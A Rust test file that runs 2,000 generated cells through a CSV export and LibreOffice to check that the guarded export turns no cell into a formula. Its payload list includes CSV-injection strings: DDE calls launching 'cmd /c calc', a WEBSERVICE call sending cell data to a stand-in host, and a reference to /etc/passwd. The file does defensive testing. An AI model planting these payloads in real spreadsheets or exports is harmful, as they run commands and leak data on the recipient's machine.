//! LibreOffice opens CSV for spreadsheets: nothing in it is calculated, and every text is what it was.

use serde_json::{Value, json};

use super::printed;
use crate::program::is_there;
use crate::repo::{TestRepo, finish};

/// What a formula, or what one is hidden behind, begins with.
const BEGINNINGS: [&str; 25] = [
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    "\r\n=",
    " =",
    "＝",
    "＋",
    "－",
    "＠",
    "'=",
    "\"=",
    ";=",
    ",=",
    "\0=",
    "\u{feff}=",
    "\u{a0}=",
    "|=",
    "%=",
    "=\n=",
    "=-",
    "@=",
];

/// How it goes on.
const ENDS: [&str; 40] = [
    "",
    "1+1",
    "A1",
    "A1+B2",
    "SUM(1,2)",
    "SUM(A1:B2)",
    "cmd|'/c calc'!A0",
    "DDE(\"cmd\",\"/c calc\",\"A0\")",
    "HYPERLINK(\"http://x.example\",\"y\")",
    "WEBSERVICE(\"http://x.example/?\"&A1)",
    "'file:///etc/passwd'#$x.A1",
    "IMPORTXML(\"http://x.example\",\"//a\")",
    "RAND()",
    "NOW()",
    "TRUE()",
    "2+5+cmd|' /C calc'!A0",
    "49 30 1234567",
    "5",
    "5,5",
    "5.5%",
    "1e5",
    "1/0",
    "#REF!",
    "{1,2;3,4}",
    "\"a\"&\"b\"",
    "a\nb",
    "a\r\nb",
    "a \" b",
    "\"",
    "\"\"",
    "\tx",
    "x  y ",
    " ",
    "'",
    "<script>",
    "é😀 ไทย",
    "e\u{301}",
    "אב",
    "\u{1b}[2J",
    "\u{202e}fdp",
];

/// What LibreOffice makes of files.
fn converted(repo: &TestRepo, form: &str, files: &[&str]) {
    let mut office = repo.command("soffice");
    office
        .arg(format!("-env:UserInstallation=file://{}", repo.path("profile").display()))
        // Between commas, in quotes, in UTF-8, from the first line on.
        .args(["--headless", "--norestore", "--infilter=CSV:44,34,76,1", "--convert-to", form, "--outdir", "sheets"])
        .args(files);
    printed(&finish(office, b""), &[form]);
}

/// A text as a sheet can hold it: no control characters, and lines that end in one way.
fn held(text: &str) -> String {
    text.replace("\r\n", "\n").replace('\r', "\n").chars().filter(|c| *c == '\n' || !c.is_control()).collect()
}

#[test]
fn libreoffice_calculates_nothing_and_shows_every_text() {
    if !is_there("soffice", &["--version"]) {
        return;
    }
    let texts: Vec<String> = BEGINNINGS
        .iter()
        .flat_map(|beginning| {
            ENDS.iter().flat_map(move |end| [format!("{beginning}{end}"), format!("{beginning}x{end}")])
        })
        .collect();
    assert_eq!(texts.len(), 2000);
    let messages: Vec<Value> = texts.iter().map(|text| json!({"from": "person", "text": text})).collect();
    let repo = TestRepo::with(&format!("{}\n", json!({"id": "1", "source": "sheet", "messages": messages})));
    let export = ["export", "--kind", "messages", "--columns", "number,text", "--no-manifest", "--output"];
    repo.succeed(&[&export[..], &["exact.csv"]].concat());
    repo.succeed(&[&export[..], &["guarded.csv", "--excel"]].concat());

    converted(&repo, "fods", &["exact.csv", "guarded.csv"]);
    let formulas = |file: &str| repo.read(&format!("sheets/{file}.fods")).matches("table:formula=").count();
    assert!(formulas("exact") > 100, "it calculates {} of those that nobody guards", formulas("exact"));
    assert_eq!(formulas("guarded"), 0);

    converted(&repo, "csv:Text - txt - csv (StarCalc):44,34,76", &["guarded.csv"]);
    let mut sheet = csv::Reader::from_path(repo.path("sheets/guarded.csv")).unwrap();
    let shown: Vec<csv::StringRecord> = sheet.records().map(Result::unwrap).collect();
    assert_eq!(shown.len(), texts.len());
    for (place, (row, text)) in shown.iter().zip(&texts).enumerate() {
        assert_eq!(row[0], (place + 1).to_string());
        assert_eq!(held(row[1].strip_prefix('\'').unwrap_or(&row[1])), held(text), "{text:?} is {:?}", &row[1]);
    }
}
